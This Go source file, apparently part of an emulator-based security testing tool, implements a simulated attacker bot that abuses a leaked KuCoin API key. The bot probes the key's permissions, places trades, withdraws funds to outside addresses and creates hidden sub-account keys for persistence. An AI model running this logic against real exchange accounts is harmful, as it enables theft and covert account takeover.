package attacker

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"net/http"
	"net/url"
	"sort"
	"strconv"
	"strings"

	"github.com/panicbutton/panicbutton/internal/emulator/emu"
)

// kucoinBot attacks the KuCoin venues (spot and futures hosts) with one
// key, plus the sub-account keys it creates for itself.
type kucoinBot struct {
	a    *Attacker
	keys []*kcKey
}

// kcKey is one key the bot holds and what it found it can do with it.
type kcKey struct {
	cred     emu.Credential
	created  bool
	n        int      // actions sent with this key
	targets  []target // orders, one product after another
	withdraw *target
	master   bool     // the key belongs to a master (it can manage sub-accounts)
	subs     []string // sub user names (master keys)
	blind    bool
}

func newKucoin(a *Attacker, cred emu.Credential) (*kucoinBot, error) {
	if cred.Secret == "" || cred.Passphrase == "" {
		return nil, fmt.Errorf("kucoin key %s: no secret or passphrase to sign with", mask(cred.APIKey))
	}
	return &kucoinBot{a: a, keys: []*kcKey{{cred: cred}}}, nil
}

func kcSign(secret, msg string) string {
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(msg))
	return base64.StdEncoding.EncodeToString(m.Sum(nil))
}

// request builds a signed KuCoin request: KC-API-SIGN over
// timestamp+METHOD+path[?query]+body, the passphrase HMAC-ed for key
// versions 2 and 3.
func (b *kucoinBot) request(k *kcKey, host, method, path string, query url.Values, body any) (*http.Request, error) {
	var raw []byte
	if body != nil {
		var err error
		if raw, err = json.Marshal(body); err != nil {
			return nil, err
		}
	}
	full := path
	if len(query) > 0 {
		full += "?" + query.Encode()
	}
	ts := strconv.FormatInt(b.a.cfg.Now().UnixMilli(), 10)
	req, err := http.NewRequest(method, b.a.cfg.BaseURL+host+full, bytes.NewReader(raw))
	if err != nil {
		return nil, err
	}
	h := req.Header
	h.Set("KC-API-KEY", k.cred.APIKey)
	h.Set("KC-API-TIMESTAMP", ts)
	h.Set("KC-API-SIGN", kcSign(k.cred.Secret, ts+method+full+string(raw)))
	if k.cred.KeyVersion >= 2 {
		h.Set("KC-API-PASSPHRASE", kcSign(k.cred.Secret, k.cred.Passphrase))
		h.Set("KC-API-KEY-VERSION", strconv.Itoa(k.cred.KeyVersion))
	} else {
		h.Set("KC-API-PASSPHRASE", k.cred.Passphrase)
	}
	if body != nil {
		h.Set("Content-Type", "application/json")
	}
	return req, nil
}

// kucoinRefusal is the venue's refusal: any HTTP error, or a 200 whose
// code is not 200000 (KuCoin answers "Balance insufficient!" with 200).
func kucoinRefusal(status int, body []byte) string {
	var e struct {
		Code string `json:"code"`
		Msg  string `json:"msg"`
	}
	if err := decode(body, &e); err != nil {
		if status < 300 {
			return fmt.Sprintf("HTTP %d: unreadable answer", status)
		}
		return fmt.Sprintf("HTTP %d", status)
	}
	if status < 300 && e.Code == "200000" {
		return ""
	}
	return fmt.Sprintf("HTTP %d %s %s", status, e.Code, e.Msg)
}

// get performs a discovery read and decodes the answer's data.
func (b *kucoinBot) get(ctx context.Context, k *kcKey, host, path string, query url.Values, v any) error {
	req, err := b.request(k, host, http.MethodGet, path, query, nil)
	if err != nil {
		return err
	}
	b.a.countRead()
	o := b.a.send(ctx, "discover", req, kucoinRefusal)
	if o.err != nil {
		return o.err
	}
	if o.refuse != "" {
		return errors.New(o.refuse)
	}
	var env struct {
		Data json.RawMessage `json:"data"`
	}
	if err := decode(o.body, &env); err != nil {
		return err
	}
	return decode(env.Data, v)
}

func newClientOid() string {
	b := make([]byte, 12)
	_, _ = rand.Read(b)
	return "atk" + hex.EncodeToString(b)
}

func (b *kucoinBot) act(ctx context.Context, n int) {
	k := b.keys[n%len(b.keys)]
	k.n++
	if b.a.spec.SubKeys && k.master && len(k.subs) > 0 && k.n%20 == 5 && !b.hasLiveCreated() {
		b.createKey(ctx, k)
		return
	}
	var t *target
	switch {
	case k.withdraw != nil && b.a.spec.Withdraw && k.n%10 == 9:
		t = k.withdraw
	case len(k.targets) > 0:
		t = &k.targets[k.n%len(k.targets)]
	case k.withdraw != nil && b.a.spec.Withdraw:
		t = k.withdraw
	default:
		return
	}
	body := map[string]any{}
	for name, v := range t.body {
		body[name] = v
	}
	if t.action != "withdraw" {
		body["clientOid"] = newClientOid()
	}
	req, err := b.request(k, t.host, t.method, t.path, nil, body)
	b.a.attempt(ctx, k.cred.APIKey, t.action, req, err, kucoinRefusal)
}

func (b *kucoinBot) hasLiveCreated() bool {
	for _, k := range b.keys {
		if k.created && (b.a.cfg.KeyAlive == nil || b.a.cfg.KeyAlive(k.cred.APIKey)) {
			return true
		}
	}
	return false
}

// createKey creates a sub-account key for the attacker on one of the
// master's sub-accounts (the one after the last it tried), as a bot that
// wants a foothold the victim does not know about would.
func (b *kucoinBot) createKey(ctx context.Context, k *kcKey) {
	sub := k.subs[(k.n/20)%len(k.subs)]
	pass := "atk" + newClientOid()[3:19]
	body := map[string]any{"subName": sub, "passphrase": pass, "remark": "sync-" + sub[:min(len(sub), 10)],
		"permission": "General,Spot,Futures"}
	req, err := b.request(k, "/kucoin", http.MethodPost, "/api/v1/sub/api-key", nil, body)
	o := b.a.attempt(ctx, k.cred.APIKey, "create-key", req, err, kucoinRefusal)
	if !o.accepted() {
		return
	}
	var env struct {
		Data struct {
			APIKey     string `json:"apiKey"`
			APISecret  string `json:"apiSecret"`
			APIVersion int    `json:"apiVersion"`
		} `json:"data"`
	}
	if err := decode(o.body, &env); err != nil || env.Data.APIKey == "" {
		return
	}
	nk := &kcKey{cred: emu.Credential{Venue: "kucoin", Account: sub, APIKey: env.Data.APIKey, Secret: env.Data.APISecret,
		Passphrase: pass, KeyVersion: max(env.Data.APIVersion, 2)}, created: true}
	b.a.addKey(nk.cred.APIKey, sub)
	b.keys = append(b.keys, nk)
	b.discoverKey(ctx, nk)
	b.a.setFound(b.products(), "")
}

func (b *kucoinBot) discover(ctx context.Context) {
	var notes []string
	for _, k := range b.keys {
		if b.a.cfg.KeyAlive != nil && k.created && !b.a.cfg.KeyAlive(k.cred.APIKey) {
			continue // a created key that was deleted: nothing to learn
		}
		notes = append(notes, b.discoverKey(ctx, k)...)
	}
	b.a.setFound(b.products(), strings.Join(notes, "; "))
}

func (b *kucoinBot) products() []string {
	seen := map[string]bool{}
	var out []string
	add := func(p string) {
		if !seen[p] {
			seen[p] = true
			out = append(out, p)
		}
	}
	for _, k := range b.keys {
		for _, t := range k.targets {
			if k.blind {
				add(strings.TrimSuffix(t.action, "-order") + " (blind)")
				continue
			}
			add(strings.TrimSuffix(t.action, "-order"))
		}
		if k.withdraw != nil {
			add("withdraw")
		}
		if k.master && len(k.subs) > 0 && b.a.spec.SubKeys {
			add("create-key")
		}
	}
	return out
}

// kcSymbol is a spot symbol's rules (GET /api/v2/symbols).
type kcSymbol struct {
	Symbol   string `json:"symbol"`
	Base     string `json:"baseCurrency"`
	Quote    string `json:"quoteCurrency"`
	MinSize  string `json:"baseMinSize"`
	SizeInc  string `json:"baseIncrement"`
	PriceInc string `json:"priceIncrement"`
	Trading  bool   `json:"enableTrading"`
	Margin   bool   `json:"isMarginEnabled"`
}

// discoverKey reads what one key may do and which balances it can use.
func (b *kucoinBot) discoverKey(ctx context.Context, k *kcKey) []string {
	var info struct {
		Permission string `json:"permission"`
		IsMaster   bool   `json:"isMaster"`
	}
	if err := b.get(ctx, k, "/kucoin", "/api/v1/user/api-key", nil, &info); err != nil {
		if len(k.targets) == 0 && k.withdraw == nil {
			b.blind(ctx, k)
		}
		return []string{fmt.Sprintf("key %s: cannot read its permissions: %v", mask(k.cred.APIKey), err)}
	}
	perms := map[string]bool{}
	for _, p := range strings.Split(info.Permission, ",") {
		perms[strings.TrimSpace(p)] = true
	}
	k.master, k.blind = info.IsMaster, false
	var notes []string
	var targets []target
	if perms["Spot"] {
		t, err := b.discoverSpot(ctx, k)
		if err != nil {
			notes = append(notes, "spot: "+err.Error())
		}
		targets = append(targets, t...)
	}
	if perms["Margin"] {
		t, err := b.discoverMargin(ctx, k)
		if err != nil {
			notes = append(notes, "margin: "+err.Error())
		}
		targets = append(targets, t...)
	}
	if perms["Futures"] {
		t, err := b.discoverFutures(ctx, k)
		if err != nil {
			notes = append(notes, "futures: "+err.Error())
		}
		targets = append(targets, t...)
	}
	k.targets = interleave(targets)
	k.withdraw = nil
	if perms["Withdrawal"] || perms["Transfer"] {
		w, err := b.discoverWithdraw(ctx, k)
		if err != nil {
			notes = append(notes, "withdraw: "+err.Error())
		}
		k.withdraw = w
	}
	k.subs = nil
	if k.master && b.a.spec.SubKeys {
		var page struct {
			Items []struct {
				SubName string `json:"subName"`
			} `json:"items"`
		}
		if err := b.get(ctx, k, "/kucoin", "/api/v2/sub/user", url.Values{"pageSize": {"100"}}, &page); err == nil {
			for _, it := range page.Items {
				k.subs = append(k.subs, it.SubName)
			}
		}
	}
	return notes
}

// blind sets one HF order on the first symbol: what a bot whose key
// answers nothing keeps trying.
func (b *kucoinBot) blind(ctx context.Context, k *kcKey) {
	syms, prices, err := b.spotMarket(ctx, k)
	if err != nil || len(syms) == 0 {
		return
	}
	if t, ok := kcSpotTarget("spot-order", "/api/v1/hf/orders", syms[0], prices[syms[0].Symbol], "buy", nil); ok {
		k.targets, k.blind = []target{t}, true
	}
}

func (b *kucoinBot) spotMarket(ctx context.Context, k *kcKey) ([]kcSymbol, map[string]float64, error) {
	var syms []kcSymbol
	if err := b.get(ctx, k, "/kucoin", "/api/v2/symbols", nil, &syms); err != nil {
		return nil, nil, err
	}
	var tickers struct {
		Ticker []struct {
			Symbol string `json:"symbol"`
			Last   string `json:"last"`
		} `json:"ticker"`
	}
	if err := b.get(ctx, k, "/kucoin", "/api/v1/market/allTickers", nil, &tickers); err != nil {
		return nil, nil, err
	}
	prices := map[string]float64{}
	for _, t := range tickers.Ticker {
		prices[t.Symbol], _ = strconv.ParseFloat(t.Last, 64)
	}
	sort.Slice(syms, func(i, j int) bool { return syms[i].Symbol < syms[j].Symbol })
	return syms, prices, nil
}

// kcSpotTarget is a resting limit order 10 % away from the price, worth
// about 10 units of the quote currency.
func kcSpotTarget(action, path string, s kcSymbol, px float64, side string, extra map[string]any) (target, bool) {
	if px <= 0 || !s.Trading {
		return target{}, false
	}
	p := px * 0.9
	if side == "sell" {
		p = px * 1.1
	}
	minSize, _ := strconv.ParseFloat(s.MinSize, 64)
	body := map[string]any{"symbol": s.Symbol, "side": side, "type": "limit",
		"price": roundTo(p, s.PriceInc, side == "sell"), "size": roundTo(math.Max(10/p, minSize), s.SizeInc, true)}
	for name, v := range extra {
		body[name] = v
	}
	return target{action: action, method: http.MethodPost, host: "/kucoin", path: path, body: body}, true
}

func (b *kucoinBot) discoverSpot(ctx context.Context, k *kcKey) ([]target, error) {
	var accts []struct {
		Currency  string `json:"currency"`
		Type      string `json:"type"`
		Available string `json:"available"`
	}
	if err := b.get(ctx, k, "/kucoin", "/api/v1/accounts", nil, &accts); err != nil {
		return nil, err
	}
	avail := map[string]map[string]float64{} // type -> currency -> available
	for _, a := range accts {
		if avail[a.Type] == nil {
			avail[a.Type] = map[string]float64{}
		}
		avail[a.Type][a.Currency], _ = strconv.ParseFloat(a.Available, 64)
	}
	syms, prices, err := b.spotMarket(ctx, k)
	if err != nil {
		return nil, err
	}
	var out []target
	out = append(out, kcFund(syms, prices, func(c string) float64 { return avail["trade_hf"][c] }, "spot-order", "/api/v1/hf/orders", nil, nil)...)
	out = append(out, kcFund(syms, prices, func(c string) float64 { return avail["trade"][c] }, "classic-order", "/api/v1/orders",
		map[string]any{"tradeType": "TRADE"}, nil)...)
	return out, nil
}

// kcFund picks, for up to three symbols, the side the balances can pay for.
func kcFund(syms []kcSymbol, prices map[string]float64, avail func(currency string) float64, action, path string,
	extra map[string]any, ok func(kcSymbol) bool) []target {
	var out []target
	for _, s := range syms {
		if len(out) == 3 {
			break
		}
		if ok != nil && !ok(s) {
			continue
		}
		buy, okb := kcSpotTarget(action, path, s, prices[s.Symbol], "buy", extra)
		if !okb {
			continue
		}
		p, _ := strconv.ParseFloat(buy.body["price"].(string), 64)
		q, _ := strconv.ParseFloat(buy.body["size"].(string), 64)
		if avail(s.Quote) >= p*q*1.01 {
			out = append(out, buy)
			continue
		}
		sell, oks := kcSpotTarget(action, path, s, prices[s.Symbol], "sell", extra)
		if !oks {
			continue
		}
		if q, _ := strconv.ParseFloat(sell.body["size"].(string), 64); avail(s.Base) >= q {
			out = append(out, sell)
		}
	}
	return out
}

// discoverMargin sets HF margin orders on what the cross and isolated
// margin accounts can pay for.
func (b *kucoinBot) discoverMargin(ctx context.Context, k *kcKey) ([]target, error) {
	type asset struct {
		Currency  string `json:"currency"`
		Available string `json:"available"`
	}
	num := func(v string) float64 { f, _ := strconv.ParseFloat(v, 64); return f }
	var cross struct {
		Accounts []asset `json:"accounts"`
	}
	if err := b.get(ctx, k, "/kucoin", "/api/v3/margin/accounts", nil, &cross); err != nil {
		return nil, err
	}
	syms, prices, err := b.spotMarket(ctx, k)
	if err != nil {
		return nil, err
	}
	bal := map[string]float64{}
	for _, a := range cross.Accounts {
		bal[a.Currency] = num(a.Available)
	}
	out := kcFund(syms, prices, func(c string) float64 { return bal[c] }, "margin-order", "/api/v3/hf/margin/order",
		map[string]any{"isIsolated": false}, func(s kcSymbol) bool { return s.Margin })
	var iso struct {
		Assets []struct {
			Symbol string `json:"symbol"`
			Base   asset  `json:"baseAsset"`
			Quote  asset  `json:"quoteAsset"`
		} `json:"assets"`
	}
	if err := b.get(ctx, k, "/kucoin", "/api/v3/isolated/accounts", nil, &iso); err != nil {
		return out, err
	}
	bySym := map[string]kcSymbol{}
	for _, s := range syms {
		bySym[s.Symbol] = s
	}
	var isoTargets []target
	for _, pair := range iso.Assets {
		s, ok := bySym[pair.Symbol]
		if !ok || len(isoTargets) == 3 {
			continue
		}
		bal := map[string]float64{pair.Base.Currency: num(pair.Base.Available), pair.Quote.Currency: num(pair.Quote.Available)}
		isoTargets = append(isoTargets, kcFund([]kcSymbol{s}, prices, func(c string) float64 { return bal[c] }, "isolated-order",
			"/api/v3/hf/margin/order", map[string]any{"isIsolated": true}, nil)...)
	}
	return append(out, isoTargets...), nil
}

func (b *kucoinBot) discoverFutures(ctx context.Context, k *kcKey) ([]target, error) {
	var contracts []struct {
		Symbol     string  `json:"symbol"`
		Settle     string  `json:"settleCurrency"`
		Multiplier float64 `json:"multiplier"`
		TickSize   float64 `json:"tickSize"`
		MarkPrice  float64 `json:"markPrice"`
		Inverse    bool    `json:"isInverse"`
	}
	if err := b.get(ctx, k, "/kucoin-futures", "/api/v1/contracts/active", nil, &contracts); err != nil {
		return nil, err
	}
	avail := map[string]float64{}
	var out []target
	sort.Slice(contracts, func(i, j int) bool { return contracts[i].Symbol < contracts[j].Symbol })
	for _, c := range contracts {
		if len(out) == 3 {
			break
		}
		if c.Inverse || c.MarkPrice <= 0 || c.TickSize <= 0 {
			continue
		}
		if _, ok := avail[c.Settle]; !ok {
			var ov struct {
				Available float64 `json:"availableBalance"`
			}
			if err := b.get(ctx, k, "/kucoin-futures", "/api/v1/account-overview", url.Values{"currency": {c.Settle}}, &ov); err != nil {
				return out, err
			}
			avail[c.Settle] = ov.Available
		}
		p := c.MarkPrice * 0.97
		tick := strconv.FormatFloat(c.TickSize, 'f', -1, 64)
		if c.Multiplier*p/5 > avail[c.Settle] {
			continue
		}
		out = append(out, target{action: "futures-order", method: http.MethodPost, host: "/kucoin-futures", path: "/api/v1/orders",
			body: map[string]any{"symbol": c.Symbol, "side": "buy", "type": "limit", "price": roundTo(p, tick, false), "size": 1, "leverage": "5"}})
	}
	return out, nil
}

// kcAddress is an outside address that fits the currency's default chain.
func kcAddress(currency string) string {
	switch currency {
	case "BTC":
		return outsideAddresses[1]
	case "TRX":
		return outsideAddresses[2]
	case "SOL":
		return "A77ac4e5A77ac4e5A77ac4e5A77ac4e5A77ac4e5"
	}
	return outsideAddresses[0]
}

func (b *kucoinBot) discoverWithdraw(ctx context.Context, k *kcKey) (*target, error) {
	var accts []struct {
		Currency  string `json:"currency"`
		Available string `json:"available"`
	}
	if err := b.get(ctx, k, "/kucoin", "/api/v1/accounts", url.Values{"type": {"main"}}, &accts); err != nil {
		return nil, err
	}
	sort.Slice(accts, func(i, j int) bool { return accts[i].Currency < accts[j].Currency })
	for _, a := range accts {
		free, _ := strconv.ParseFloat(a.Available, 64)
		if free <= 0 {
			continue
		}
		var q struct {
			Min string `json:"withdrawMinSize"`
			Fee string `json:"withdrawMinFee"`
		}
		if err := b.get(ctx, k, "/kucoin", "/api/v1/withdrawals/quotas", url.Values{"currency": {a.Currency}}, &q); err != nil {
			continue
		}
		minSize, _ := strconv.ParseFloat(q.Min, 64)
		fee, _ := strconv.ParseFloat(q.Fee, 64)
		amount := math.Max(minSize, 2*fee)
		if amount <= 0 || free < amount+fee {
			continue
		}
		addr := b.a.spec.Address
		if addr == "" {
			addr = kcAddress(a.Currency)
		}
		return &target{action: "withdraw", method: http.MethodPost, host: "/kucoin", path: "/api/v3/withdrawals",
			body: map[string]any{"currency": a.Currency, "toAddress": addr, "amount": strconv.FormatFloat(amount, 'f', -1, 64),
				"withdrawType": "ADDRESS"}}, nil
	}
	return nil, errors.New("no currency with enough in the main account")
}
